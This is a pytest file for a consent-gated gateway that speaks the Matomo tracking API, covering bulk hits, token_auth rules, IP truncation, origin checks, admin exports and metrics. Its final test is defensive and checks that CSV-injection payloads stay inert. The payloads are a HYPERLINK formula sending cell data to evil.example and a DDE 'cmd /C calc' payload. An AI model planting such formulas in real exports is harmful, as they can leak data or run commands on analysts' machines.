"""/matomo.php speaks the Matomo Tracking API as real clients use it."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient

from gateway.tracking.routes import GIF
from tests.conftest import ADMIN, BROWSER_UA, ORIGIN, grant, rows

UA = {"User-Agent": BROWSER_UA}


@pytest.fixture
def token(client: TestClient) -> str:
    value: str = grant(client, ["analytics"])["token"]
    return value


def hit(token: str, **extra: Any) -> dict[str, Any]:
    return {
        "idsite": 1,
        "rec": 1,
        "url": "http://127.0.0.1:8000/p",
        "action_name": "P",
        "_id": "0123456789abcdef",
        "gw_consent": token,
        **extra,
    }


def stored(db_path: Path) -> list[Any]:
    return rows(db_path, "SELECT * FROM hits ORDER BY id")


def test_get_answers_a_gif_and_stores(client: TestClient, db_path: Path, token: str) -> None:
    response = client.get("/matomo.php", params=hit(token), headers=UA)
    assert response.status_code == 200
    assert response.headers["content-type"] == "image/gif"
    assert response.headers["cache-control"] == "no-store"
    assert response.content == GIF and len(GIF) == 43
    assert len(stored(db_path)) == 1


@pytest.mark.parametrize("path", ["/matomo.php", "/piwik.php"])
def test_send_image_zero_answers_204(
    client: TestClient, db_path: Path, token: str, path: str
) -> None:
    response = client.get(path, params=hit(token, send_image=0), headers=UA)
    assert response.status_code == 204 and response.content == b""
    assert len(stored(db_path)) == 1


def test_post_form_body(client: TestClient, db_path: Path, token: str) -> None:
    response = client.post("/matomo.php", data=hit(token, send_image=0), headers=UA)
    assert response.status_code == 204
    assert stored(db_path)[0]["action_name"] == "P"


def test_send_beacon_empty_body_params_in_query(
    client: TestClient, db_path: Path, token: str
) -> None:
    response = client.post(
        "/matomo.php",
        params=hit(token, send_image=0),
        content=b"",
        headers={
            **UA,
            "Content-Type": "application/x-www-form-urlencoded; charset=UTF-8",
            "Origin": ORIGIN,
        },
    )
    assert response.status_code == 204
    assert response.headers["access-control-allow-origin"] == ORIGIN
    assert response.headers["access-control-allow-credentials"] == "true"
    assert len(stored(db_path)) == 1


def test_query_wins_over_body(client: TestClient, db_path: Path, token: str) -> None:
    client.post(
        "/matomo.php",
        params=hit(token, action_name="From query"),
        data={"action_name": "From body", "send_image": "0"},
        headers=UA,
    )
    assert stored(db_path)[0]["action_name"] == "From query"


def test_bulk_of_strings_and_objects(client: TestClient, db_path: Path, token: str) -> None:
    from urllib.parse import urlencode

    body = {
        "requests": [
            "?" + urlencode(hit(token, action_name="A")),
            hit(token, action_name="B"),
            "?" + urlencode(hit(token, e_c="Video", e_a="Play", e_n="Intro", e_v="3")),
        ]
    }
    response = client.post("/matomo.php", content=json.dumps(body), headers=UA)
    assert response.status_code == 200
    assert response.json() == {"status": "success", "tracked": 3, "invalid": 0}
    hits = stored(db_path)
    assert [h["action_name"] for h in hits[:2]] == ["A", "B"]
    assert (hits[2]["kind"], hits[2]["event_category"], hits[2]["event_value"]) == (
        "event",
        "Video",
        3.0,
    )


def test_bulk_counts_invalid_entries_and_keeps_the_rest(
    client: TestClient, db_path: Path, token: str
) -> None:
    body = {
        "requests": [
            hit(token, action_name="ok"),
            {"idsite": "abc", "rec": 1},  # bad idsite
            {"idsite": 999, "rec": 1},  # unknown site
            hit(token, cid="nothex"),  # bad cid
            "no-query-string",  # Matomo drops entries without a query
            42,  # not a request at all
            hit(token, cip="198.51.100.1"),  # needs token_auth
        ]
    }
    response = client.post("/matomo.php", content=json.dumps(body), headers=UA)
    assert response.json() == {"status": "success", "tracked": 1, "invalid": 6}
    assert [h["action_name"] for h in stored(db_path)] == ["ok"]


def test_bulk_send_image_zero_answers_204(client: TestClient, token: str) -> None:
    body = {"requests": [hit(token)], "send_image": 0}
    assert client.post("/matomo.php", content=json.dumps(body), headers=UA).status_code == 204


def test_bulk_dropped_hits_count_as_tracked(client: TestClient, db_path: Path) -> None:
    body = {"requests": [hit("forged"), hit("forged")]}
    response = client.post("/matomo.php", content=json.dumps(body), headers=UA)
    assert response.json() == {"status": "success", "tracked": 2, "invalid": 0}
    assert stored(db_path) == []


@pytest.mark.parametrize("param", ["cip", "country", "region", "city", "lat", "long"])
def test_auth_only_parameters_need_token_auth(
    client: TestClient, db_path: Path, token: str, param: str
) -> None:
    value = {
        "cip": "198.51.100.23",
        "country": "se",
        "region": "AB",
        "city": "Umeå",
        "lat": "63.8",
        "long": "20.3",
    }[param]
    response = client.get("/matomo.php", params=hit(token, **{param: value}), headers=UA)
    assert response.status_code == 400
    assert param in response.json()["error"]
    wrong = client.get(
        "/matomo.php", params=hit(token, token_auth="wrong", **{param: value}), headers=UA
    )
    assert wrong.status_code == 400
    assert stored(db_path) == []


def test_cip_with_token_auth_sets_the_client_ip_truncated(
    client: TestClient, db_path: Path, token: str
) -> None:
    response = client.get(
        "/matomo.php", params=hit(token, cip="198.51.100.23", token_auth=ADMIN), headers=UA
    )
    assert response.status_code == 200
    assert stored(db_path)[0]["ip"] == "198.51.0.0"


def test_country_with_token_auth(client: TestClient, db_path: Path, token: str) -> None:
    client.get("/matomo.php", params=hit(token, country="se", token_auth=ADMIN), headers=UA)
    assert stored(db_path)[0]["country"] == "SE"


def test_cdt_older_than_a_day_needs_token_auth(
    client: TestClient, db_path: Path, token: str
) -> None:
    old = "2026-01-02 03:04:05"
    assert client.get("/matomo.php", params=hit(token, cdt=old), headers=UA).status_code == 400
    response = client.get("/matomo.php", params=hit(token, cdt=old, token_auth=ADMIN), headers=UA)
    assert response.status_code == 200
    assert stored(db_path)[0]["ts"].startswith("2026-01-02T03:04:05")


def test_recent_cdt_needs_no_token(client: TestClient, db_path: Path, token: str) -> None:
    import time

    recent = str(int(time.time()) - 600)
    assert client.get("/matomo.php", params=hit(token, cdt=recent), headers=UA).status_code == 200
    assert len(stored(db_path)) == 1


def test_site_token_from_the_policy_authorises_only_its_site(
    tmp_path: Path,
) -> None:
    import hashlib

    from gateway.app import create_app
    from gateway.settings import Settings
    from tests.conftest import PEER_IP, SECRET, write_site

    site_token = "site-token-abcdefghijklmnop"
    policies = tmp_path / "tokpol"
    policies.mkdir()
    digest = hashlib.sha256(site_token.encode()).hexdigest()
    write_site(policies, "demo", 1, **{"token_sha256 = []": f'token_sha256 = ["{digest}"]'})
    write_site(policies, "other", 7)
    db_path = tmp_path / "tok.db"
    settings = Settings(
        policies_dir=policies,
        db_url=f"sqlite:///{db_path}",
        secret_keys=(SECRET,),
        admin_token="admin-" + "x" * 20,
    )
    with TestClient(create_app(settings), base_url=ORIGIN, client=(PEER_IP, 1)) as c:
        demo_token = grant(c, ["analytics"])["token"]
        other_token = grant(c, ["analytics"], site="other")["token"]
        ok = c.get(
            "/matomo.php",
            params=hit(demo_token, cip="198.51.100.1", token_auth=site_token),
            headers=UA,
        )
        assert ok.status_code == 200
        foreign = c.get(
            "/matomo.php",
            params=hit(other_token, idsite=7, cip="198.51.100.1", token_auth=site_token),
            headers=UA,
        )
        assert foreign.status_code == 400


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"rec": 1}, "idsite"),
        ({"idsite": 0, "rec": 1}, "idsite"),
        ({"idsite": -3, "rec": 1}, "idsite"),
        ({"idsite": "1x", "rec": 1}, "idsite"),
        ({"idsite": 999, "rec": 1}, "unknown idsite"),
        ({"idsite": 1, "rec": 1, "cid": "123"}, "cid"),
        ({"idsite": 1, "rec": 1, "e_c": "Video", "e_a": " "}, "e_a"),
    ],
)
def test_what_matomo_rejects_gets_400(
    client: TestClient, params: dict[str, Any], message: str
) -> None:
    response = client.get("/matomo.php", params=params, headers=UA)
    assert response.status_code == 400
    assert message in response.json()["error"]


def test_bare_get_explains_itself_and_empty_post_is_400(client: TestClient) -> None:
    info = client.get("/matomo.php")
    assert info.status_code == 200 and "Matomo" in info.text
    assert client.post("/matomo.php", content=b"").status_code == 400


def test_preflight(client: TestClient) -> None:
    response = client.options(
        "/matomo.php", headers={"Origin": ORIGIN, "Access-Control-Request-Method": "POST"}
    )
    assert response.status_code == 204
    assert response.headers["access-control-allow-origin"] == ORIGIN


def test_hits_from_a_foreign_origin_are_dropped_quietly(
    client: TestClient, db_path: Path, token: str
) -> None:
    response = client.post(
        "/matomo.php",
        params=hit(token, send_image=0),
        headers={**UA, "Origin": "https://evil.example"},
    )
    assert response.status_code == 204
    assert stored(db_path) == []


def test_stored_fields(client: TestClient, db_path: Path, token: str) -> None:
    client.get(
        "/matomo.php",
        headers={**UA, "Accept-Language": "fi-FI,fi;q=0.9"},
        params=hit(
            token,
            url="https://User:pw@127.0.0.1:8000/Tuote?id=5&gclid=x&token=secret&mtm_campaign=syys",
            urlref="https://www.google.com/search?q=kone&fbclid=abc",
            res="1920x1080",
            pv_id="a1B2c3",
            uid="user-17",
            dimension3="gold",
            _rcn="",
            new_visit=1,
        ),
    )
    (h,) = stored(db_path)
    assert h["url"] == "https://127.0.0.1:8000/Tuote?id=5"
    assert h["referrer"] == "https://www.google.com/search?q=kone"
    assert h["referrer_host"] == "www.google.com"
    assert h["campaign_name"] == "syys"
    assert (h["resolution"], h["pv_id"]) == ("1920x1080", "a1B2c3")
    assert h["user_id"] and "user-17" not in h["user_id"]
    assert json.loads(h["dimensions"]) == {"3": "gold"}
    assert (h["browser"], h["os"], h["device"]) == ("Chrome", "Windows", "desktop")
    assert h["lang"].startswith("fi")
    assert h["new_visit"] == 1


def test_admin_export_ndjson_and_csv(client: TestClient, token: str) -> None:
    client.get("/matomo.php", params=hit(token), headers=UA)
    auth = {"Authorization": f"Bearer {ADMIN}"}
    ndjson = client.get("/api/sites/demo/hits", headers=auth)
    assert ndjson.status_code == 200
    (row,) = [json.loads(line) for line in ndjson.text.splitlines()]
    for field in (
        "ts",
        "visitor_id",
        "url",
        "action_name",
        "referrer",
        "ip",
        "country",
        "browser",
        "os",
        "device",
    ):
        assert field in row
    assert row["ip"] == "203.0.0.0"
    csv_text = client.get("/api/sites/demo/hits", params={"format": "csv"}, headers=auth).text
    assert csv_text.splitlines()[0].startswith("ts,site,idsite")
    assert len(csv_text.splitlines()) == 2


@pytest.mark.parametrize(
    ("path", "headers", "status"),
    [
        ("/api/sites/demo/hits", {}, 401),
        ("/api/sites/demo/hits", {"Authorization": "Bearer wrong"}, 403),
        ("/api/sites/demo/hits", {"Authorization": "Basic abc"}, 401),
        ("/api/sites/nope/hits", {"Authorization": f"Bearer {ADMIN}"}, 404),
        ("/api/sites/demo/hits?from=yesterday", {"Authorization": f"Bearer {ADMIN}"}, 400),
        ("/api/sites/demo/hits?format=xml", {"Authorization": f"Bearer {ADMIN}"}, 400),
    ],
)
def test_admin_export_refuses_clearly(
    client: TestClient, path: str, headers: dict[str, str], status: int
) -> None:
    response = client.get(path, headers=headers)
    assert response.status_code == status
    assert "error" in response.json()


def test_metrics_count_outcomes_and_drop_reasons(client: TestClient, token: str) -> None:
    client.get("/matomo.php", params=hit(token), headers=UA)
    client.get("/matomo.php", params=hit("forged"), headers=UA)
    client.get("/matomo.php", params={**hit(token), "gw_consent": ""}, headers=UA)
    client.get("/matomo.php", params={"idsite": "x"}, headers=UA)
    text = client.get("/metrics").text
    assert 'gateway_hits_total{site="demo",outcome="stored"} 1' in text
    assert 'gateway_hits_dropped_total{site="demo",reason="token_invalid"} 1' in text
    assert 'gateway_hits_dropped_total{site="demo",reason="no_consent"} 1' in text
    assert 'gateway_requests_invalid_total{reason="bad_request"} 1' in text
    assert 'gateway_consents_total{site="demo",action="custom"} 1' in text


@pytest.mark.parametrize(
    "hostile",
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"],
)
def test_csv_export_keeps_formulas_inert(client: TestClient, token: str, hostile: str) -> None:
    """A title from a visitor's browser must stay text when an analyst opens the CSV."""
    client.get("/matomo.php", params=hit(token, action_name=hostile), headers=UA)
    auth = {"Authorization": f"Bearer {ADMIN}"}
    text = client.get("/api/sites/demo/hits", params={"format": "csv"}, headers=auth).text
    header, row = list(csv.reader(io.StringIO(text)))
    assert row[header.index("action_name")] == "'" + hostile
